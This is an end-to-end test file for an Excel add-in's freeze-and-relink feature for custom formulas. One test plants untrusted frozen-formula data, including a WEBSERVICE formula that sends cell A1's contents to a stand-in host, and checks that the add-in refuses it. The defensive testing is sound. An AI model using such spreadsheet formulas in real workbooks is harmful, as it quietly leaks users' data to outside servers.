// Freeze, send, and back: the formulas travel with the workbook, and come back for a price that was shown.
import { createHash } from 'node:crypto';
import { describeJourneys } from '../support/journey';
import type { PlaygroundPage } from '../support/playgroundPage';
import { formulaAt, freezeAll, openSharing, relinkFor } from '../support/sharingPane';

/** As freezing keeps a formula whose cell shows a text. */
async function keepFrozen(playground: PlaygroundPage, cell: string, formula: string, shown: string) {
  const digest = createHash('sha256')
    .update(JSON.stringify([[`'${shown}`]]))
    .digest()
    .subarray(0, 12)
    .toString('base64');
  const one = { sheetId: '', sheet: 'Sheet1', cell, area: cell, formula, formats: [], digests: [digest] };
  const inside = Buffer.from(JSON.stringify({ v: 1, at: 1, formulas: [one] })).toString('base64');
  await playground.addIn.evaluate(
    (xml) =>
      Excel.run(async (context) => {
        context.workbook.customXmlParts.add(xml);
        await context.sync();
      }),
    `<frozen xmlns="urn:spillway:frozen-formulas:1">${inside}</frozen>`,
  );
}

const withKey = { withKey: true };
const search = '=RURETAIL.SEARCH("iphone",3)';
const second = '=BIZBUREAU.SEARCH("roofing",2,"Austin, TX")';

describeJourneys('relink', (journey) => {
  journey(
    'a frozen workbook is opened again, says so at the start, and its formulas come back for nothing',
    async ({ playground, stack }) => {
      const { pane } = playground;
      await playground.type('B2', search);
      const table = await playground.table('B2');
      await playground.type('B20', second);
      await playground.table('B20');
      const { credits } = await stack.sandbox.counters();
      await freezeAll(playground, '2 formulas');
      await playground.quiet();
      await playground.reopen();
      await pane.getByText('This workbook has 2 frozen formulas').waitFor();
      await pane.getByRole('button', { name: 'Relink…' }).click();
      await relinkFor(playground, 'Relink 2 formulas (free)', '2 formulas relinked, free.');
      expect(await playground.table('Sheet1!B2')).toEqual(table);
      expect(await formulaAt(playground, 'Sheet1!B2')).toBe(search);
      expect((await stack.sandbox.counters()).credits).toBe(credits);
      // Undone, the values are back, and they can be relinked again.
      await pane.getByRole('button', { name: 'Undo relink (2)' }).click();
      await pane.getByText('2 formulas frozen again.').first().waitFor();
      expect(await formulaAt(playground, 'Sheet1!B2')).toBe('');
      expect(await playground.value('Sheet1!B3')).toBe(table[1]?.[0]);
      await relinkFor(playground, 'Relink 2 formulas (free)', '2 formulas relinked, free.');
    },
    withKey,
  );

  journey(
    'without the cached results the price is shown first, and Cancel spends nothing',
    async ({ playground, stack }) => {
      const { pane } = playground;
      await playground.type('B2', search);
      await playground.table('B2');
      await freezeAll(playground, '1 formula');
      const { credits, requests } = await stack.sandbox.counters();
      await pane.getByText('Cache', { exact: true }).click();
      await pane.getByRole('button', { name: /^Clear cache/ }).click();
      await pane.getByRole('button', { name: 'Clear', exact: true }).click();
      await playground.reopen();
      await openSharing(playground);
      await pane.getByRole('button', { name: 'Find frozen formulas' }).click();
      await pane.getByText('1 formula can be relinked: 1 credit. 1 request to fetch.').first().waitFor();
      await pane.getByRole('button', { name: 'Cancel' }).click();
      await playground.quiet();
      expect(await stack.sandbox.counters()).toMatchObject({ credits, requests });
      expect(await formulaAt(playground, 'Sheet1!B2')).toBe('');
      await relinkFor(playground, 'Relink 1 formula (1 credit)', '1 formula relinked');
      await playground.table('Sheet1!B2');
      expect(await formulaAt(playground, 'Sheet1!B2')).toBe(search);
    },
    withKey,
  );

  journey(
    'what was edited stays, and so does what another formula is in the way of',
    async ({ playground, stack }) => {
      const { pane } = playground;
      await playground.type('B2', search);
      await playground.table('B2');
      await playground.type('B20', second);
      await playground.table('B20');
      await freezeAll(playground, '2 formulas');
      await playground.type('Sheet1!C3', 'mine');
      const { credits } = await stack.sandbox.counters();
      await pane.getByRole('button', { name: 'Find frozen formulas' }).click();
      await pane.getByText('Sheet1!B2 was edited, moved or deleted after it was frozen.').waitFor();
      await pane.getByRole('button', { name: 'Relink 1 formula (free)' }).click();
      await pane.getByText('1 formula relinked, free.').first().waitFor();
      expect(await playground.value('Sheet1!C3')).toBe('mine');
      expect(await formulaAt(playground, 'Sheet1!B2')).toBe('');
      expect(await formulaAt(playground, 'Sheet1!B20')).toBe(second);
      expect((await stack.sandbox.counters()).credits).toBe(credits);
    },
    withKey,
  );

  journey(
    'a workbook from someone else cannot have anything written but formulas of Spillway',
    async ({ playground, stack }) => {
      const { pane } = playground;
      await openSharing(playground);
      await playground.type('A1', 'theirs');
      await playground.addIn.evaluate(async () => {
        const kept = {
          v: 1,
          at: 1,
          formulas: [
            '=WEBSERVICE("https://x.test/?"&A1)',
            '=BIZBUREAU.SEARCH(WEBSERVICE("https://x.test"))',
            '=BIZBUREAU.SEARCH("roofing",150)',
          ].map((formula) => ({
            sheetId: '',
            sheet: 'Sheet1',
            cell: 'A1',
            area: 'A1',
            formula,
            formats: [],
            digests: ['AAAA'],
          })),
        };
        await Excel.run(async (context) => {
          for (const formula of kept.formulas)
            context.workbook.customXmlParts.add(
              `<frozen xmlns="urn:spillway:frozen-formulas:1">${btoa(JSON.stringify({ ...kept, formulas: [formula] }))}</frozen>`,
            );
          await context.sync();
        });
      });
      await pane.getByRole('button', { name: 'Find frozen formulas' }).click();
      await pane.getByText('None of the frozen formulas can be relinked.').first().waitFor();
      expect(await playground.value('Sheet1!A1')).toBe('theirs');
      expect((await stack.sandbox.counters()).requests).toBe(0);
    },
    withKey,
  );

  journey(
    'two windows that freeze at once keep the formulas of both',
    async ({ playground }) => {
      const { pane } = playground;
      await playground.type('B2', search);
      await playground.table('B2');
      await freezeAll(playground, '1 formula');
      // A window that opened before saves the settings it knows; the formulas are not among them.
      await playground.addIn.evaluate(
        () =>
          new Promise<void>((resolve) => {
            Office.context.document.settings.set('other', 'window');
            Office.context.document.settings.saveAsync(() => resolve());
          }),
      );
      await playground.type('B20', second);
      await playground.table('B20');
      await freezeAll(playground, '1 formula');
      await playground.reopen();
      await openSharing(playground);
      await pane.getByRole('combobox', { name: 'Relink' }).selectOption('sheet');
      await relinkFor(playground, 'Relink 2 formulas (free)', '2 formulas relinked, free.');
    },
    withKey,
  );

  journey(
    'a result with cards is frozen to the same values, whatever one chooses for its cards, and comes back',
    async ({ playground }) => {
      const { pane } = playground;
      const formula = '=BIZBUREAU.SEARCH("roofing",3,"Austin, TX","cards=yes")';
      await playground.type('B2', formula);
      const table = await playground.table('B2');
      for (const choice of ['keep', 'flatten'] as const) {
        await openSharing(playground);
        await pane.getByRole('combobox', { name: 'Cards and pictures' }).selectOption(choice);
        await freezeAll(playground, '1 formula');
        expect(await formulaAt(playground, 'Sheet1!B2')).toBe('');
        expect(await playground.value('Sheet1!B3')).toBe(table[1]?.[0]);
        await relinkFor(playground, 'Relink 1 formula (free)', '1 formula relinked, free.');
        expect(await playground.table('Sheet1!B2')).toEqual(table);
      }
    },
    withKey,
  );

  journey(
    'what another formula asks for because of it is held, however late Excel calculates, and what is typed is not',
    async ({ playground, stack }) => {
      await playground.type('B2', 'kettle');
      await playground.type('H2', '=RURETAIL.SEARCH(B2,2)');
      await playground.table('H2');
      await openSharing(playground);
      // Someone froze a formula here, and its value is still there.
      await keepFrozen(playground, 'B2', '=RURETAIL.SEARCH("iphone",3,,"name")', 'kettle');
      const { credits } = await stack.sandbox.counters();
      await playground.delayCalls('Sheet1!H2');
      await relinkFor(playground, 'Relink 1 formula (1 credit)', '1 formula relinked');
      await playground.table('Sheet1!B2');
      await playground.type('Sheet1!P2', '=RURETAIL.SEARCH("lamp",2)');
      await playground.table('Sheet1!P2');
      await playground.delayCalls();
      expect(await playground.error('Sheet1!H2', '#N/A')).toContain(
        'Spillway changed cells that this formula depends on',
      );
      expect((await stack.sandbox.counters()).credits).toBe(credits + 2);
    },
    withKey,
  );
});
